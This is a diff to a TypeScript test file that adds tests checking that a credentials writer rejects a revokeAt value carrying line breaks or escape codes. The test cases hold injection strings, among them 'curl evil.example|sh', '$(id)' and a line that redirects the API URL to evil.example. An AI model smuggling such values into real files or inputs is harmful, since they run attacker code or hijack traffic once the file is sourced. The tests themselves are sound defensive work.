@@ -12,7 +12,7 @@ import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { KeycardError } from '../core/errors.ts';
-import { readCredentials, resolveToken } from './index.ts';
+import { readCredentials, resolveToken, writeCredentials } from './index.ts';
 
 const TOKEN = 'toado_sk_1abcdefghijklmnopqrstuvwxyzABCDEF000000';
 let root: string;
@@ -143,5 +143,29 @@ describe('resolveToken: a token from the flag or the environment must fit a Bear
       expect(found).toMatchObject({ token, source: 'env' });
       expect(new Headers({ authorization: `Bearer ${found!.token}` }).get('authorization')).toBe(`Bearer ${token}`);
     }
+  });
+});
+
+describe('writeCredentials: the comment line cannot carry a second line', () => {
+  const cases: [string, string][] = [
+    ['a LF and a variable', 'https://toado.app\nTOADO_API_URL=https://evil.example'],
+    ['a CR and a command a shell would run on `source`', 'https://toado.app\rcurl evil.example|sh'],
+    ['a CRLF', 'https://toado.app\r\n$(id)'],
+    ['a line separator', 'https://toado.app\u2028x'],
+    ['an escape sequence', 'https://toado.app\u001b[2J'],
+  ];
+  for (const [what, revokeAt] of cases)
+    it(`revokeAt with ${what}: invalid_argument naming revokeAt, nothing written`, async () => {
+      const { dir, o } = folder();
+      const error = await failure(writeCredentials('toado', { token: TOKEN }, { ...o, revokeAt }));
+      expect(error).toBeInstanceOf(KeycardError);
+      expect(error).toMatchObject({ code: 'invalid_argument', message: expect.stringContaining('revokeAt') });
+      expect(await fs.readdir(dir)).toEqual([]);
+    });
+
+  it('a URL given only as url (no revokeAt) is said in the comment, as before', async () => {
+    const { file, o } = folder();
+    await writeCredentials('toado', { token: TOKEN, url: 'https://toado.app' }, o);
+    expect(await fs.readFile(file, 'utf8')).toContain('# Revoke this token at https://toado.app,');
   });
 });
